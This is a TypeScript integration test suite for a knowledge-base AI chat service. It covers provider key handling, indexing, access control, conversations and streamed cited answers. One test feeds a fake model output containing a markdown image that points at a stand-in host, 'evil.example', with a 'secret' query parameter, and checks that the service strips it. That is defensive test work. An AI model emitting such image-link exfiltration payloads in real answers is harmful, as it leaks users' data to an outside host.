import fs from 'node:fs';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { eq, sql } from 'drizzle-orm';
import { ErrorCode, Role, type AiStreamEvent, type ReferDoc } from '@library/contract';
import { queryRows } from '../../db/database.js';
import { aiMessages, aiProviders, spaceAi, spaceFiles } from '../../db/schema/index.js';
import { Job } from '../../infra/jobs/job-catalogue.js';
import { enqueueJob } from '../../infra/jobs/job-queue.js';
import { startFakeOpenAi, type FakeOpenAiServer } from '../../../test/fakes/openai.js';
import {
  authHeader,
  buildSpaceWithRoles,
  buildStoredFile,
  buildRunningImport,
  buildUser,
  paragraphBlock,
  termDrift,
} from '../../../test/factories.js';
import { createTestApp, type TestApp } from '../../../test/test-app.js';
import { destroySpace } from '../recycle/recycle.repo.js';

let t: TestApp;
let fake: FakeOpenAiServer;
let origin: string;
beforeAll(async () => {
  t = await createTestApp({ rateLimitPerMinute: 1_000_000 });
  fake = await startFakeOpenAi();
  await t.app.listen({ port: 0, host: '127.0.0.1' });
  origin = `http://127.0.0.1:${(t.app.server.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await t.close();
  await fake.close();
});
afterEach(() => {
  // a test that changed how the fake reranks does not leave it so for the next
  fake.rerank = { kind: 'score', score: (_query, _document, index) => -index };
});

type Headers = Record<string, string>;
const call: TestApp['call'] = (...args) => t.call(...args);

const heading = (id: string, text: string) => ({
  id,
  type: 'heading',
  props: { level: 2 },
  content: [{ type: 'text', text, styles: {} }],
  children: [],
});

/** A page made through the API with the given blocks; published unless told otherwise. */
async function page(
  spaceId: string,
  headers: Headers,
  name: string,
  blocks: Array<ReturnType<typeof paragraphBlock>>,
  publish = true,
) {
  const created = await call('POST', `/api/v2/space/${spaceId}/page`, headers, { name });
  const pageId = created.body.data.pageId as string;
  let after: string | null = null;
  const changes = blocks.map((data) => {
    const change = { op: 'upsert', blockId: data.id, afterBlockId: after, data };
    after = data.id;
    return change;
  });
  const saved = await call('PUT', `/api/v2/space/page/${pageId}/block`, headers, {
    baseRevision: 0,
    changes,
  });
  expect(saved.status).toBe(200);
  if (publish) {
    const published = await call('POST', `/api/v2/space/page/${pageId}/version`, headers, {
      name: 'v1',
    });
    expect(published.status).toBe(200);
  }
  return pageId;
}

async function drain() {
  while ((await t.jobs.drain()) > 0);
}

/** A space with roles, AI on, a published page about 长城 and a draft about 故宫. */
async function buildWorld(options: { includeDrafts?: boolean } = {}) {
  const world = await buildSpaceWithRoles(t.db);
  const { space, as } = world;
  const published = await page(space.id, as.owner, '长城', [
    heading('h1', '历史'),
    paragraphBlock('p1', '长城始建于春秋战国时期，秦始皇统一六国后把各国长城连接起来。'),
    paragraphBlock('p2', '明长城东起鸭绿江，西至嘉峪关，全长约八千八百公里。'),
  ]);
  const draft = await page(
    space.id,
    as.owner,
    '故宫',
    [paragraphBlock('d1', '故宫是明清两代的皇家宫殿，旧称紫禁城，位于北京中轴线的中心。')],
    false,
  );
  const enabled = await call('POST', `/api/v1/ai/${space.id}/enable`, as.owner, { enable: true });
  expect(enabled.status).toBe(200);
  if (options.includeDrafts) {
    await call('PUT', `/api/v1/ai/${space.id}/settings`, as.owner, {
      prologue: '你好，我是知识库助手',
      instructions: '',
      topK: 5,
      includeDrafts: true,
    });
  }
  await drain();
  const chatId = enabled.body.data.chat.id as string;
  return { ...world, chatId, published, draft };
}

async function newSession(chatId: string, headers: Headers, name = '新对话') {
  const res = await call('POST', `/api/v1/ai/chat/${chatId}/session`, headers, { name });
  expect(res.status).toBe(200);
  return res.body.data.id as string;
}

/** One streamed question over real HTTP: the status, the parsed events and the raw text. */
async function ask(chatId: string, headers: Headers, sessionId: string, question: string) {
  const res = await fetch(`${origin}/api/v1/ai/chat/${chatId}/converse/stream`, {
    method: 'POST',
    headers: { ...headers, 'content-type': 'application/json' },
    body: JSON.stringify({ sessionId, question }),
  });
  const text = await res.text();
  const events = text
    .split('\n\n')
    .filter((block) => block.startsWith('data: '))
    .map((block) => JSON.parse(block.slice(6)) as AiStreamEvent);
  return { status: res.status, type: res.headers.get('content-type'), events, text };
}

const finalOf = (events: AiStreamEvent[]) =>
  events.at(-1)?.data as { answer: string; id: string; prompt: string; referDocList: ReferDoc[] };

async function setProvider(fields: Record<string, unknown> = {}) {
  await t.db.delete(aiProviders);
  const adminUser = await buildUser(t.db, { roles: ['ADMIN'] });
  const headers = await authHeader(t.db, adminUser.id);
  const res = await call('POST', '/api/system/v1/ai/provider', headers, {
    name: '测试模型',
    baseUrl: fake.baseUrl,
    apiKey: 'sk-secret-123',
    chatModel: 'fake-chat',
    ...fields,
  });
  expect(res.status).toBe(200);
  return { headers, provider: res.body.data as { id: string } };
}

describe('model providers (system administrators)', () => {
  it('refuses non-admins, never returns the key, seals it at rest and tests the connection', async () => {
    const user = await buildUser(t.db);
    const userHeaders = await authHeader(t.db, user.id);
    expect((await call('GET', '/api/system/v1/ai/provider', userHeaders)).status).toBe(403);
    expect((await call('GET', '/api/system/v1/ai/provider')).status).toBe(401);

    const { headers, provider } = await setProvider();
    const list = await call('GET', '/api/system/v1/ai/provider', headers);
    expect(list.body.data.list).toHaveLength(1);
    expect(list.body.data.list[0]).toMatchObject({ hasApiKey: true, isDefault: true });
    expect(JSON.stringify(list.body)).not.toContain('sk-secret-123');
    const [row] = await t.db.select().from(aiProviders).where(eq(aiProviders.id, provider.id));
    expect(row?.apiKeySealed).toMatch(/^v1:/);
    expect(row?.apiKeySealed).not.toContain('sk-secret-123');

    // update without a key keeps it; the stored key is used by 'test connection'
    const updated = await call('PUT', `/api/system/v1/ai/provider/${provider.id}`, headers, {
      name: '改名',
      baseUrl: fake.baseUrl,
      chatModel: 'fake-chat',
    });
    expect(updated.body.data).toMatchObject({ name: '改名', hasApiKey: true });
    fake.chat = { kind: 'stream', pieces: ['x'] };
    const tested = await call('POST', '/api/system/v1/ai/provider/test', headers, {
      id: provider.id,
      name: '改名',
      baseUrl: fake.baseUrl,
      chatModel: 'fake-chat',
    });
    expect(tested.body.data.ok).toBe(true);
    expect(fake.requests.at(-1)?.authorization).toBe('Bearer sk-secret-123');
    fake.chat = { kind: 'status', status: 401, message: 'bad key' };
    const failed = await call('POST', '/api/system/v1/ai/provider/test', headers, {
      name: 'x',
      baseUrl: fake.baseUrl,
      apiKey: 'wrong',
      chatModel: 'fake-chat',
    });
    expect(failed.body.data).toMatchObject({ ok: false });
    expect(failed.body.data.message).toContain('bad key');

    const bad = await call('POST', '/api/system/v1/ai/provider', headers, {
      name: 'x',
      baseUrl: 'ftp://nope',
      chatModel: 'm',
    });
    expect(bad.status).toBe(400);
    expect(bad.body.code).toBe(ErrorCode.paramError);

    expect(
      (await call('DELETE', `/api/system/v1/ai/provider/${provider.id}`, headers)).status,
    ).toBe(200);
    expect((await call('GET', '/api/system/v1/ai/provider', headers)).body.data.list).toEqual([]);
  });
});

describe('space AI', () => {
  it('is managed by space admins; readers see the detail; outsiders get 404', async () => {
    const { space, as } = await buildSpaceWithRoles(t.db);
    const off = await call('GET', `/api/v1/ai/${space.id}`, as.reader);
    expect(off.body.data).toMatchObject({ enabled: false, chat: null });
    expect(off.body.data.abilities).toEqual({ canManage: false, canChat: false });
    expect(
      (await call('POST', `/api/v1/ai/${space.id}/enable`, as.editor, { enable: true })).status,
    ).toBe(404);
    expect((await call('GET', `/api/v1/ai/${space.id}`, as.outsider)).status).toBe(404);
    const on = await call('POST', `/api/v1/ai/${space.id}/enable`, as.admin, { enable: true });
    expect(on.body.data.enabled).toBe(true);
    expect(on.body.data.chat.id).toEqual(expect.any(String));
    expect(on.body.data.index.pending).toBe(1);
    const settings = await call('PUT', `/api/v1/ai/${space.id}/settings`, as.admin, {
      prologue: '欢迎提问',
      instructions: '回答要简短',
      topK: 21,
      includeDrafts: false,
    });
    expect(settings.status).toBe(400);
    const saved = await call('PUT', `/api/v1/ai/${space.id}/settings`, as.admin, {
      prologue: '欢迎提问',
      instructions: '回答要简短',
      topK: 3,
      includeDrafts: true,
    });
    expect(saved.body.data).toMatchObject({
      prologue: '欢迎提问',
      settings: { instructions: '回答要简短', topK: 3, includeDrafts: true },
      abilities: { canManage: true, canChat: true },
    });
    // the extra instructions and the last indexing error are the managers' to see
    await t.db
      .update(spaceAi)
      .set({ indexError: 'model unreachable' })
      .where(eq(spaceAi.spaceId, space.id));
    const managed = await call('GET', `/api/v1/ai/${space.id}`, as.admin);
    expect(managed.body.data.settings.instructions).toBe('回答要简短');
    expect(managed.body.data.index.lastError).toBe('model unreachable');
    const read = await call('GET', `/api/v1/ai/${space.id}`, as.reader);
    expect(read.body.data.settings).toMatchObject({ instructions: '', topK: 3 });
    expect(read.body.data.index.lastError).toBeNull();
    expect((await call('POST', `/api/v1/ai/${space.id}/reindex`, as.reader)).status).toBe(404);
    expect((await call('POST', `/api/v1/ai/${space.id}/reindex`, as.owner)).status).toBe(200);
  });

  it('is cut again after an upgrade that changes the chunker: migration 0029 queues every space whose AI is on', async () => {
    const { space } = await buildWorld();
    const { space: without } = await buildSpaceWithRoles(t.db);
    await drain();
    const migration = fs.readFileSync(
      new URL('../../../drizzle/0029_ai_reindex_english_sentences.sql', import.meta.url),
      'utf8',
    );
    // rolled back: on PostgreSQL the test files share a database, and their spaces stay theirs
    const rollBack = new Error('roll back');
    let queued: string[] = [];
    await t.db
      .transaction(async (tx) => {
        await tx.execute(sql.raw(migration));
        const rows = await queryRows<{ key: string }>(
          tx,
          sql`select key from jobs where kind = 'ai.reindex-space' and key in (${space.id}, ${without.id})`,
        );
        queued = rows.map((row) => row.key);
        throw rollBack;
      })
      .catch((error: unknown) => {
        if (error !== rollBack) throw error;
      });
    expect(queued).toEqual([space.id]);
  });

  it('indexes published pages incrementally and shows the state', async () => {
    const { space, as, published } = await buildWorld();
    const detail = await call('GET', `/api/v1/ai/${space.id}`, as.owner);
    expect(detail.body.data.index).toMatchObject({ documents: 1, pending: 0, lastError: null });
    // chunk ids survive a re-index of unchanged content
    const chunkIds = () =>
      queryRows<{ id: number }>(
        t.db,
        sql`select id from ai_chunks where space_id = ${space.id} order by id`,
      );
    const before = await chunkIds();
    expect(before.length).toBeGreaterThan(0);
    await call('POST', `/api/v1/ai/${space.id}/reindex`, as.owner);
    await drain();
    expect(await chunkIds()).toEqual(before);
    // deleting the page drops it from the index
    expect((await call('DELETE', `/api/v2/space/page/${published}`, as.owner)).status).toBe(200);
    await drain();
    expect((await call('GET', `/api/v1/ai/${space.id}`, as.owner)).body.data.index.documents).toBe(
      0,
    );
  });
  it("keeps each term's document frequency equal to its postings through edits and deletes", async () => {
    const { space, as, published, draft } = await buildWorld({ includeDrafts: true });
    const drift = () => termDrift(t.db, space.id);
    const terms = async () =>
      (
        await queryRows<{ n: number }>(
          t.db,
          sql`select count(*)::int as n from ai_terms where space_id = ${space.id}`,
        )
      )[0]?.n ?? 0;
    expect(await terms()).toBeGreaterThan(10);
    expect(await drift()).toEqual([]);
    // an edit replaces the page's chunks (old postings deleted, new ones inserted)
    const edited = await call('PUT', `/api/v2/space/page/${published}/block`, as.owner, {
      baseRevision: 1,
      changes: [
        {
          op: 'upsert',
          blockId: 'p2',
          afterBlockId: 'p1',
          data: paragraphBlock('p2', '八达岭长城是明长城中保存最好的一段，游客最多。'),
        },
      ],
    });
    expect(edited.status).toBe(200);
    await call('POST', `/api/v2/space/page/${published}/version`, as.owner, { name: 'v2' });
    await drain();
    expect(await drift()).toEqual([]);
    // a deleted page's chunks go by cascade from its document
    expect((await call('DELETE', `/api/v2/space/page/${draft}`, as.owner)).status).toBe(200);
    await drain();
    expect(await drift()).toEqual([]);
    // purging the space drops its postings in one statement, then everything else by cascade
    await t.db.execute(sql`update spaces set deleted_at = now() where id = ${space.id}`);
    await destroySpace(t.db, space.id);
    expect(await terms()).toBe(0);
    const [left] = await queryRows<{ n: number }>(
      t.db,
      sql`select count(*)::int as n from ai_chunks where space_id = ${space.id}`,
    );
    expect(left?.n).toBe(0);
  });
});

describe('index upkeep on PGlite (job ai.vacuum)', () => {
  it('vacuums the AI and search indexes once after indexing where the database has no autovacuum', async () => {
    await buildWorld();
    const queued = () =>
      queryRows<{ n: number }>(
        t.db,
        sql`select count(*)::int as n from jobs where kind = ${Job.vacuumAiIndex.kind}`,
      );
    if (t.database.kind === 'postgres') {
      expect((await queued())[0]?.n).toBe(0);
      return;
    }
    // two pages indexed, one vacuum waiting a minute
    expect((await queued())[0]?.n).toBe(1);
    await t.db.execute(sql`update jobs set run_at = now() where kind = ${Job.vacuumAiIndex.kind}`);
    await drain();
    expect((await queued())[0]?.n).toBe(0);
    // the search index's postings too (their ranking reads tf and length from the key alone)
    const vacuumed = await queryRows<{ relname: string }>(
      t.db,
      sql`select relname from pg_stat_user_tables where last_vacuum is not null
        and relname in ('ai_postings', 'search_postings') order by relname`,
    );
    expect(vacuumed.map((row) => row.relname)).toEqual(['ai_postings', 'search_postings']);
  });
});

describe('file text in the index (job ai.index-file)', () => {
  it("indexes a file's extracted text, cites the file, and drops it when the file is deleted", async () => {
    await t.db.delete(aiProviders);
    const { chatId, as, space, owner } = await buildWorld();
    const file = await buildStoredFile(t.db, {
      spaceId: space.id,
      uploadedBy: owner.id,
      name: '敦煌研究报告.pdf',
      text: '莫高窟俗称千佛洞，位于敦煌市东南二十五公里的鸣沙山东麓。\n\n现存洞窟七百三十五个。',
    });
    await enqueueJob(t.db, Job.indexFile, { fileId: file.id }, { key: file.id });
    await drain();
    const sessionId = await newSession(chatId, as.reader);
    const res = await ask(chatId, as.reader, sessionId, '莫高窟位于哪里？');
    expect(finalOf(res.events).referDocList[0]).toMatchObject({
      sourceType: 'file',
      fileId: file.id,
      pageId: null,
      title: '敦煌研究报告.pdf',
    });
    // a file an import stored before its pages are saved is not cited to readers
    const running = await buildRunningImport(t.db, owner.id, space.id);
    await t.db.update(spaceFiles).set({ importId: running.id }).where(eq(spaceFiles.id, file.id));
    const importing = await ask(chatId, as.reader, sessionId, '莫高窟位于哪里？');
    expect(finalOf(importing.events).referDocList.map((ref) => ref.fileId)).not.toContain(file.id);
    // the import saved its pages: the mark cleared, the reader is answered from it again
    await t.db.update(spaceFiles).set({ importId: null }).where(eq(spaceFiles.id, file.id));
    const imported = await ask(chatId, as.reader, sessionId, '莫高窟位于哪里？');
    expect(finalOf(imported.events).referDocList[0]?.fileId).toBe(file.id);
    await t.db.update(spaceFiles).set({ deletedAt: new Date() }).where(eq(spaceFiles.id, file.id));
    // hidden at once, even before the job removes it
    const hidden = await ask(chatId, as.reader, sessionId, '莫高窟位于哪里？');
    expect(finalOf(hidden.events).referDocList.map((ref) => ref.fileId)).not.toContain(file.id);
    await enqueueJob(t.db, Job.indexFile, { fileId: file.id }, { key: file.id });
    await drain();
    const detail = await call('GET', `/api/v1/ai/${space.id}`, as.owner);
    expect(detail.body.data.index.documents).toBe(1);
  });
});

describe('conversations', () => {
  it('belong to their user, pin on the server and list pinned first', async () => {
    const { chatId, as } = await buildWorld();
    const first = await newSession(chatId, as.reader, '第一个');
    const second = await newSession(chatId, as.reader, '第二个');
    await newSession(chatId, as.editor, '别人的');
    const pinned = await call('PUT', `/api/v1/ai/chat/session/${first}`, as.reader, {
      isPinned: true,
    });
    expect(pinned.body.data).toMatchObject({ isPinned: true, pinnedAt: expect.any(String) });
    const list = await call('GET', `/api/v1/ai/chat/${chatId}/session`, as.reader);
    expect(list.body.data.list.map((s: { id: string }) => s.id)).toEqual([first, second]);
    const renamed = await call('PUT', `/api/v1/ai/chat/session/${second}`, as.reader, {
      name: '改名',
    });
    expect(renamed.body.data.name).toBe('改名');
    expect((await call('PUT', `/api/v1/ai/chat/session/${second}`, as.reader, {})).status).toBe(
      400,
    );
    // someone else's conversation looks missing
    expect(
      (await call('PUT', `/api/v1/ai/chat/session/${second}`, as.editor, { name: 'x' })).status,
    ).toBe(404);
    expect((await call('DELETE', `/api/v1/ai/chat/session/${second}`, as.editor)).status).toBe(404);
    expect(
      (await call('GET', `/api/v1/ai/chat/${chatId}/converse/${second}`, as.editor)).status,
    ).toBe(404);
    expect((await call('GET', `/api/v1/ai/chat/${chatId}/session`, as.outsider)).status).toBe(404);
    const unpinned = await call('PUT', `/api/v1/ai/chat/session/${first}`, as.reader, {
      isPinned: false,
    });
    expect(unpinned.body.data).toMatchObject({ isPinned: false, pinnedAt: null });
    expect((await call('DELETE', `/api/v1/ai/chat/session/${second}`, as.reader)).status).toBe(200);
    const left = await call('GET', `/api/v1/ai/chat/${chatId}/session`, as.reader);
    expect(left.body.data.list.map((s: { id: string }) => s.id)).toEqual([first]);
  });
});

describe('POST /api/v1/ai/chat/:chatId/converse/stream', () => {
  it('answers offline with numbered references to the cited block, and keeps the history', async () => {
    await t.db.delete(aiProviders);
    const { chatId, as, space, published } = await buildWorld();
    const sessionId = await newSession(chatId, as.reader);
    const res = await ask(chatId, as.reader, sessionId, '明长城全长多少公里？');
    expect(res.status).toBe(200);
    expect(res.type).toContain('text/event-stream');
    const [first, ...rest] = res.events;
    const refs = (first?.data as { referDocList: ReferDoc[] }).referDocList;
    expect(refs[0]).toMatchObject({
      index: 1,
      sourceType: 'page',
      spaceId: space.id,
      pageId: published,
      // the block that holds the answer, not the chunk's first block
      blockId: 'p2',
      title: '长城 › 历史',
    });
    // the snippet leads up to the answering sentence with the one before (both fit)
    expect(refs[0]?.snippet).toMatch(/^长城始建于春秋战国时期.*明长城东起鸭绿江/);
    expect(rest.slice(0, -1).every((event) => 'delta' in (event.data ?? {}))).toBe(true);
    const final = finalOf(res.events);
    expect(res.events.at(-1)).toMatchObject({ code: 0, msg: 'ok' });
    expect(final.answer).toContain('未配置大语言模型');
    expect(final.answer).toContain('八千八百公里');
    expect(final.answer).toContain('[1]');
    const streamed = rest
      .slice(0, -1)
      .map((event) => (event.data as { delta: string }).delta)
      .join('');
    expect(streamed).toBe(final.answer);

    const history = await call('GET', `/api/v1/ai/chat/${chatId}/converse/${sessionId}`, as.reader);
    expect(history.body.data.list).toHaveLength(1);
    expect(history.body.data.list[0]).toMatchObject({
      id: final.id,
      question: '明长城全长多少公里？',
      answer: final.answer,
    });
    expect(history.body.data.list[0].referDocList[0].blockId).toBe('p2');
  });

  it('answers across scripts: a Traditional question cites the Simplified page, and the reverse, each in its own text', async () => {
    await t.db.delete(aiProviders);
    const { chatId, as, space, published } = await buildWorld();
    const traditional = await page(space.id, as.owner, '臺北捷運', [
      paragraphBlock('t1', '臺北捷運是服務臺北都會區的大眾捷運系統。'),
      paragraphBlock('t2', '文湖線採用中運量膠輪系統，全線高架或地下，共有二十四個車站。'),
    ]);
    // decoys in the question's script: without folding, their words alone would match
    await page(space.id, as.owner, '長城健行', [
      paragraphBlock('x1', '長城健行路線全長多少，要看走哪一段，每公里都有標示。'),
    ]);
    await page(space.id, as.owner, '文湖线换乘', [
      paragraphBlock('x2', '文湖线换乘请看站内的指示。'),
    ]);
    await drain();
    const sessionId = await newSession(chatId, as.reader);

    const toSimplifiedPage = await ask(chatId, as.reader, sessionId, '明長城全長多少公里？');
    const simplifiedRef = finalOf(toSimplifiedPage.events).referDocList[0];
    expect(simplifiedRef).toMatchObject({ pageId: published, blockId: 'p2' });
    // the author's script, not the folded one
    expect(simplifiedRef?.snippet).toMatch(/^长城始建于.*明长城东起鸭绿江/);
    expect(finalOf(toSimplifiedPage.events).answer).toContain('八千八百公里');

    const toTraditionalPage = await ask(chatId, as.reader, sessionId, '文湖线有多少个车站？');
    const traditionalRef = finalOf(toTraditionalPage.events).referDocList[0];
    expect(traditionalRef).toMatchObject({ pageId: traditional, blockId: 't2' });
    expect(traditionalRef?.snippet).toMatch(/^臺北捷運是.*文湖線採用中運量膠輪系統/);
    expect(finalOf(toTraditionalPage.events).answer).toContain('二十四個車站');
  });

  it('filters passages by access: drafts only for editors, outsiders 404, anonymous 401', async () => {
    await t.db.delete(aiProviders);
    const { chatId, as, draft } = await buildWorld({ includeDrafts: true });
    const question = '紫禁城是什么？';
    const editorSession = await newSession(chatId, as.editor);
    const editor = await ask(chatId, as.editor, editorSession, question);
    const editorRefs = finalOf(editor.events).referDocList;
    expect(editorRefs.map((ref) => ref.pageId)).toContain(draft);

    const readerSession = await newSession(chatId, as.reader);
    const reader = await ask(chatId, as.reader, readerSession, question);
    const readerRefs = finalOf(reader.events).referDocList;
    expect(readerRefs.map((ref) => ref.pageId)).not.toContain(draft);
    expect(finalOf(reader.events).answer).not.toContain('紫禁城，位于');

    const outsider = await ask(chatId, as.outsider, readerSession, question);
    expect(outsider.status).toBe(404);
    expect(outsider.type).toContain('application/json');
    const anonymous = await ask(chatId, {}, readerSession, question);
    expect(anonymous.status).toBe(401);
    // another user's conversation cannot be used either
    expect((await ask(chatId, as.editor, readerSession, question)).status).toBe(404);
    expect((await ask(chatId, as.reader, readerSession, '')).status).toBe(400);
  });

  it('answers a visitor of an open space from published pages only; anonymous visitors log in to ask', async () => {
    await t.db.delete(aiProviders);
    const { space, chatId, as, published, draft } = await buildWorld({ includeDrafts: true });
    const question = '紫禁城和长城是什么？';
    // closed: the non-member is an outsider
    expect((await call('GET', `/api/v1/ai/${space.id}`, as.outsider)).status).toBe(404);
    expect((await call('GET', `/api/v1/ai/${space.id}`, {})).status).toBe(404);

    const opened = await call('PUT', `/api/v2/space/${space.id}`, as.owner, {
      openToVisitors: true,
    });
    expect(opened.status).toBe(200);
    const detail = await call('GET', `/api/v1/ai/${space.id}`, as.outsider);
    expect(detail.status).toBe(200);
    expect(detail.body.data.abilities).toEqual({ canManage: false, canChat: true });
    const visitorSession = await newSession(chatId, as.outsider);
    const visitor = await ask(chatId, as.outsider, visitorSession, question);
    expect(visitor.status).toBe(200);
    const refs = finalOf(visitor.events).referDocList;
    expect(refs.map((ref) => ref.pageId)).toContain(published);
    expect(refs.map((ref) => ref.pageId)).not.toContain(draft);
    expect(finalOf(visitor.events).answer).not.toContain('紫禁城，位于');

    const anonymousDetail = await call('GET', `/api/v1/ai/${space.id}`, {});
    expect(anonymousDetail.status).toBe(200);
    expect(anonymousDetail.body.data.abilities.canChat).toBe(false);
    expect(anonymousDetail.body.data.settings.instructions).toBe('');
    expect((await ask(chatId, {}, visitorSession, question)).status).toBe(401);

    // closed again: the visitor's conversation is gone with the access
    await call('PUT', `/api/v2/space/${space.id}`, as.owner, { openToVisitors: false });
    expect((await ask(chatId, as.outsider, visitorSession, question)).status).toBe(404);
  });

  it('streams a configured model answer and neutralises images and foreign links', async () => {
    await setProvider();
    const { chatId, as } = await buildWorld();
    const sessionId = await newSession(chatId, as.reader);
    fake.chat = {
      kind: 'stream',
      pieces: [
        '明长城全长约',
        '八千八百公里 [1]。',
        '![x](https://evil.example/p?d=secret)',
        ' 见[来源](https://evil.example/a)',
      ],
    };
    const res = await ask(chatId, as.reader, sessionId, '明长城全长多少公里？');
    const final = finalOf(res.events);
    expect(final.answer).toContain('明长城全长约八千八百公里 [1]。');
    expect(res.text).not.toContain('evil.example');
    expect(final.prompt).toContain('[1] 长城 › 历史');
    const sent = fake.requests.at(-1)?.body as {
      model: string;
      messages: Array<{ content: string }>;
    };
    expect(sent.model).toBe('fake-chat');
    expect(sent.messages[0]?.content).toContain('八千八百公里');

    fake.chat = { kind: 'status', status: 500, message: 'model overloaded' };
    const failed = await ask(chatId, as.reader, sessionId, '长城始建于什么时期？');
    expect(failed.status).toBe(200);
    expect(failed.events.at(-1)).toMatchObject({ code: ErrorCode.serverError, data: null });
    expect(failed.events.at(-1)?.msg).toContain('model overloaded');
    await t.db.delete(aiProviders);
  });

  it('cites the sentence the rerank model chooses when the provider has one', async () => {
    await setProvider({ rerankModel: 'fake-rerank' });
    const { chatId, as } = await buildWorld();
    const sessionId = await newSession(chatId, as.reader);
    fake.chat = { kind: 'stream', pieces: ['见 [1]。'] };
    // this rerank model prefers what names 春秋: the passage, then among its sentences
    fake.rerank = {
      kind: 'score',
      score: (_query, document) => (document.includes('春秋') ? 1 : 0),
    };
    const before = fake.requests.length;
    const res = await ask(chatId, as.reader, sessionId, '明长城全长多少公里？');
    const [reference] = finalOf(res.events).referDocList;
    // without it the answer cites p2 (the first test); the rerank model's sentence is in p1
    expect(reference).toMatchObject({ pageId: expect.any(String), blockId: 'p1' });
    expect(reference?.snippet).toMatch(/^长城始建于春秋战国时期/);
    const reranks = fake.requests.slice(before).filter((request) => request.path === '/rerank');
    // one passage comes back, so only its sentences go to the rerank model
    expect(reranks).toHaveLength(1);
    expect(reranks[0]?.body).toMatchObject({ model: 'fake-rerank', query: '明长城全长多少公里？' });
    expect(reranks[0]?.body.documents).toContain(
      '长城 › 历史\n明长城东起鸭绿江，西至嘉峪关，全长约八千八百公里。',
    );
    await t.db.delete(aiProviders);
  });

  it('ends an answer with 100003 within 5 s when an administrator suspends the asker', async () => {
    await setProvider();
    const { chatId, as, ids } = await buildWorld();
    const admin = await buildUser(t.db, { roles: [Role.admin] });
    const sessionId = await newSession(chatId, as.reader);
    fake.chat = {
      kind: 'stream',
      pieces: ['第一段。', ...Array(100).fill('更多。')],
      pieceDelayMs: 100,
    };
    const closed = fake.clientClosed();
    const res = await fetch(`${origin}/api/v1/ai/chat/${chatId}/converse/stream`, {
      method: 'POST',
      headers: { ...as.reader, 'content-type': 'application/json' },
      body: JSON.stringify({ sessionId, question: '长城有多长？' }),
    });
    const reader = res.body!.getReader();
    let text = '';
    while (!text.includes('第一段')) text += new TextDecoder().decode((await reader.read()).value);
    const suspended = await call(
      'PUT',
      `/api/system/v1/users/${ids.reader}/state`,
      await authHeader(t.db, admin.id),
      { state: 'suspended' },
    );
    expect(suspended.status).toBe(200);
    const started = performance.now();
    for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) {
      text += new TextDecoder().decode(chunk.value);
    }
    expect(performance.now() - started).toBeLessThan(5000);
    const last = JSON.parse(text.trim().split('\n\n').at(-1)!.slice('data: '.length));
    expect(last).toMatchObject({ code: ErrorCode.tokenExpired, data: null });
    await closed; // the model call was stopped too
    expect(text.split('更多').length).toBeLessThan(60);
    await t.db.delete(aiProviders);
  });

  it('stops the model when the client closes and keeps the partial answer', async () => {
    await setProvider();
    const { chatId, as } = await buildWorld();
    const sessionId = await newSession(chatId, as.reader);
    fake.chat = {
      kind: 'stream',
      pieces: ['第一段。', '第二段。', ...Array(50).fill('更多。')],
      pieceDelayMs: 100,
    };
    const controller = new AbortController();
    const closed = fake.clientClosed();
    const started = performance.now();
    const res = await fetch(`${origin}/api/v1/ai/chat/${chatId}/converse/stream`, {
      method: 'POST',
      headers: { ...as.reader, 'content-type': 'application/json' },
      body: JSON.stringify({ sessionId, question: '长城有多长？' }),
      signal: controller.signal,
    });
    const reader = res.body!.getReader();
    let text = '';
    while (!text.includes('第一段')) text += new TextDecoder().decode((await reader.read()).value);
    controller.abort();
    await closed; // the model call was stopped
    expect(performance.now() - started).toBeLessThan(3000);
    let saved: typeof aiMessages.$inferSelect | undefined;
    for (let i = 0; i < 50 && saved?.status !== 'stopped'; i += 1) {
      await new Promise((resolve) => setTimeout(resolve, 20));
      [saved] = await t.db.select().from(aiMessages).where(eq(aiMessages.sessionId, sessionId));
    }
    expect(saved?.status).toBe('stopped');
    expect(saved?.answer).toContain('第一段。');
    expect(saved?.answer.split('更多').length ?? 99).toBeLessThan(50);
    await t.db.delete(aiProviders);
  });
});
